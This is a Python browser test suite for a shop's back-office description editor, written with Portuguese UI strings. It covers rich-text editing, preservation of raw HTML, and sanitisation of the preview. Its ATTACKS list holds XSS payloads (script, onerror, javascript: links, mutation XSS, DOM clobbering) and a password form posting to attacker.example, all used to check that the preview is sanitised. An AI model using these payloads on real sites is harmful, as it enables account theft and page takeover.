"""Descriptions in the back office: written as they will look, or as their HTML, of which nothing is lost."""

from __future__ import annotations

import json

from kernel.scope import active_scope
from models.tables.boxes import BoxDescription, ProductBox
from tests.browser.office import OFFICE_MARKS, Clerk, each_width, on_desktop
from tests.harness.records import PASSWORD, add_product, add_user
from tests.harness.scopes import system_scope, value

pytestmark = OFFICE_MARKS
# Each would change the page or send something, were it not taken out.
ATTACKS = (
    "<script>window.stolen = 1</script>",
    "<img src=x: onerror='window.stolen = 2'>",
    "<svg><a xlink:href='javascript:window.stolen=3'>x</a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.stolen=4&gt;'>",
    "<form action='https://attacker.example/'><input name='password'></form>",
    "<style>body { display: none }</style><p style='position: fixed; inset: 0'>cobre tudo</p>",
    "<iframe src='https://attacker.example/'></iframe><base href='https://attacker.example/'>",
    "<a id='config' name='config' href='javascript:window.stolen=5'>link</a>",
)
_PREVIEW = "document.querySelector('[data-preview]')"
_UNSAFE = f"""[...{_PREVIEW}.querySelectorAll('*')].flatMap(each => [
    ...('SCRIPT STYLE FORM INPUT IFRAME BASE OBJECT EMBED LINK META'.split(' ').includes(each.tagName.toUpperCase()) ? [each.tagName] : []),
    ...[...each.attributes].filter(({{ name, value }}) => /^on|^(style|id|name|class)$/.test(name) || /^\\s*javascript:/i.test(value))
        .map(({{ name }}) => name)])"""


_EDITOR = "document.querySelector('[data-html=\"input.description\"] .ProseMirror')"
_SELECTED = f"""(({{ doc, selection: {{ from, to, $from }} }}) =>
    JSON.stringify([$from.parent.textBetween(0, $from.parentOffset), doc.textBetween(from, to)]))({_EDITOR}.editor.state)"""
_SOURCE = "document.querySelector('[name=\"input.description\"]')"
# As shops write them, and as the editor of CS-Cart did.
EDITABLE = (
    "",
    "Feito à mão, sem <b>pressa</b>.",
    "<p>Um</p>\n<p>Dois<br>\n  três</p>\n<ul>\n  <li>Barro</li>\n  <li>Linho &amp; lã</li>\n</ul>",
    '<h3>Medidas</h3><ol><li>Altura<ul><li>12 cm</li></ul></li></ol><blockquote>Bom</blockquote><hr><p><a href="/p/1">ver</a></p>',
    '<p><img src="https://img.example/a.jpg" alt="Vaso"> <em>Vaso</em> <s>velho</s> <u>novo</u> <code>x</code></p>',
)
SOURCE_ONLY = (
    '<table class="t"><tbody><tr><td>12 cm</td></tr></tbody></table>',
    '<p class="lead">Com classe</p>',
    '<p style="text-align: center">No meio</p>',
    "<div>Em um bloco</div>",
    '<iframe src="https://video.example/1"></iframe>',
    "<p>Com <!-- comentário --> dentro</p>",
    '<p><font color="red">Vermelho</font></p>',
    '<p><a name="topo">Topo</a> <span>x</span></p>',
    '<ul style="list-style: none"><li>Um</li></ul>',
    "<script>1</script><p>Texto</p>",
)


async def open_product(clerk: Clerk, description: str) -> str:
    """Sign a clerk in, and open a product with this description; return its ID."""
    staff = await add_user(clerk.store, "view_products", "manage_products", "view_content")
    product = await add_product(clerk.store, name=f"Descrito {clerk.width.name}", description=description)
    await clerk.sign_in(staff.email, PASSWORD)
    await clerk.see("Início")
    await show(clerk, product.id)
    return product.id


async def show(clerk: Clerk, product: str) -> None:
    await clerk.go(f"/product/{product}", "Produto")
    await clerk.page.wait_for(f"{_EDITOR} !== null || {_SOURCE} !== null")


async def select(clerk: Clerk, selection: str, before: str, selected: str) -> None:
    """Run a selection until the editor, which hears of one later, has these words selected, after those `before` in the paragraph."""
    expected = json.dumps([before, selected])
    await clerk.page.wait_for(
        f"({_EDITOR}.focus(), getSelection().{selection}, {_SELECTED}) === JSON.stringify({expected})"
    )


async def save(clerk: Clerk) -> None:
    await clerk.press("Salvar")
    await clerk.see("Salvo")


async def description_of(clerk: Clerk, product: str) -> str:
    return str(await value(clerk.store, "select description from products where public_id = $1", product))


@each_width
async def test_a_description_is_written_as_it_will_look(clerk: Clerk) -> None:
    product = await open_product(clerk, "<p>Feito à mão</p><ul><li>Barro</li></ul>")
    await select(clerk, f"selectAllChildren({_EDITOR}.querySelector('p'))", "", "Feito à mão")
    await clerk.press("Negrito")
    await clerk.page.wait_for(f"{_EDITOR}.querySelector('strong')?.innerText === 'Feito à mão'")
    assert await clerk.page.evaluate("document.querySelector('[aria-pressed=true]').innerText") == "Negrito"
    await select(clerk, f"collapse({_EDITOR}.querySelector('strong').firstChild, 11)", "Feito à mão", "")
    await clerk.page.type(" em Cunha")
    await clerk.check("description")
    await save(clerk)
    expected = "<p><strong>Feito à mão em Cunha</strong></p><ul><li>Barro</li></ul>"
    assert await description_of(clerk, product) == expected
    await clerk.press("HTML")
    await clerk.page.wait_for(f"{_SOURCE}?.value === {json.dumps(expected)}")
    await clerk.check("description-source")
    await clerk.press("HTML")
    await select(clerk, f"selectAllChildren({_EDITOR}.querySelector('li p'))", "", "Barro")
    await clerk.press("Link")
    await clerk.page.wait_for("document.activeElement.matches('input') && (document.activeElement.select(), true)")
    await clerk.page.type("https://barro.example/")
    await clerk.page.press("Enter")
    await save(clerk)
    assert await description_of(clerk, product) == expected.replace(
        "Barro", '<a href="https://barro.example/">Barro</a>'
    )


@on_desktop
async def test_what_the_editor_cannot_express_stays_as_it_is(clerk: Clerk) -> None:
    product = await open_product(clerk, "")
    for number, html in enumerate((*EDITABLE, *SOURCE_ONLY)):
        await value(
            clerk.store, "update products set description = $2 where public_id = $1 returning id", product, html
        )
        await show(clerk, product)
        assert await clerk.page.evaluate(f"{_EDITOR} !== null") is (html in EDITABLE), html
        note = await clerk.page.evaluate("document.body.innerText.includes('o editor visual perderia')")
        assert note is (html in SOURCE_ONLY), html
        # The form hasn't changed: there is nothing to save, until another field is.
        assert await clerk.page.evaluate("document.querySelector('main [type=submit]').disabled"), html
        await clerk.fill("input.sku", f"D-{number}")
        await save(clerk)
        assert await description_of(clerk, product) == html
    clerk.excuse("Content Security Policy directive")
    clerk.page.requests[:] = [url for url in clerk.page.requests if not url.startswith("https://img.example/")]


@each_width
async def test_the_source_is_written_with_buttons_and_previewed(clerk: Clerk) -> None:
    product = await open_product(clerk, "")
    await clerk.press("HTML")
    await clerk.fill("input.description", "Feito à mão")
    await clerk.page.evaluate("document.querySelector('[name=\"input.description\"]').select()")
    await clerk.press("Negrito")
    await clerk.page.wait_for(f"{_PREVIEW}?.querySelector('strong')?.innerText === 'Feito à mão'")
    await save(clerk)
    assert await description_of(clerk, product) == "<strong>Feito à mão</strong>"
    for attack in ATTACKS:
        await clerk.fill("input.description", f"<p>antes de {len(attack)}</p>{attack}")
        await clerk.page.wait_for(f"{_PREVIEW}?.innerText.includes('antes de {len(attack)}')")
        assert await clerk.page.evaluate(_UNSAFE) == [], attack
    assert await clerk.page.evaluate("window.stolen ?? null") is None
    assert await clerk.page.evaluate(f"{_PREVIEW}.querySelector('a').rel") == "noopener noreferrer"
    # The browser says so of the document in which the HTML is parsed, where nothing runs.
    clerk.excuse("Content Security Policy directive")
    clerk.excuse("x:")


@on_desktop
async def test_a_list_shows_html_as_plain_text(clerk: Clerk) -> None:
    staff = await add_user(clerk.store, "view_catalog", "manage_catalog", "view_content")
    text = "<p>Quadro &amp; <b>moldura</b></p><script>window.stolen = 1</script><ul><li>Um</li><li>Dois</li></ul>"
    with active_scope(system_scope(clerk.store)):
        box = await ProductBox.create(name="Caixa de quadros")
        await BoxDescription.create(box_id=box.id, lang_code="pt", title="Quadros", full_description=text)
    await clerk.sign_in(staff.email, PASSWORD)
    await clerk.see("Início")
    await clerk.go("/box_description", "")
    await clerk.see("Quadro & moldura Um Dois")
    shown = await clerk.page.evaluate("document.querySelector('main').innerText")
    assert "<p>" not in shown
    assert "stolen" not in shown
